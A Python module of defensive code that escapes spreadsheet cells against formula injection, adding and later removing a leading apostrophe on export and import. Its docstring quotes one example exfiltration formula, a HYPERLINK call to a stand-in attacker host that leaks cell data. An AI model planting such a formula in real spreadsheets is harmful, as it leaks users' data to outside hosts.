"""Text in spreadsheet cells (CSV, XLSX), safe from formula injection and restored exactly.

A spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return as a
formula: `=HYPERLINK("http://evil.example/?x="&A1,"click")` in an entry would become a live
link leaking the sheet. Every such cell is written with a leading apostrophe, which makes it
text. So that the apostrophe can be taken off again on import, and only where it was added, a
cell that really starts with an apostrophe gets one too: on import, one leading apostrophe is
always removed.

django-import-export's IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT (and tablib's `escape`) only
drop a leading `=`: the other triggers stay live, and the text cannot be restored.
"""

import tablib

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def escape_cell(value):
    """`value` as a spreadsheet cell: text that a spreadsheet shows and never runs."""
    if isinstance(value, str) and value.startswith((*FORMULA_TRIGGERS, QUOTE)):
        return QUOTE + value
    return value


def unescape_cell(value):
    """The text `escape_cell` was given (a cell from a file: any leading apostrophe goes)."""
    if isinstance(value, str) and value.startswith(QUOTE):
        return value[len(QUOTE) :]
    return value


def _map_cells(dataset: tablib.Dataset, function) -> tablib.Dataset:
    rows = ([function(value) for value in row] for row in dataset)
    return tablib.Dataset(*rows, headers=dataset.headers, title=dataset.title)


def escape_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    return _map_cells(dataset, escape_cell)


def unescape_dataset(dataset: tablib.Dataset) -> tablib.Dataset:
    return _map_cells(dataset, unescape_cell)
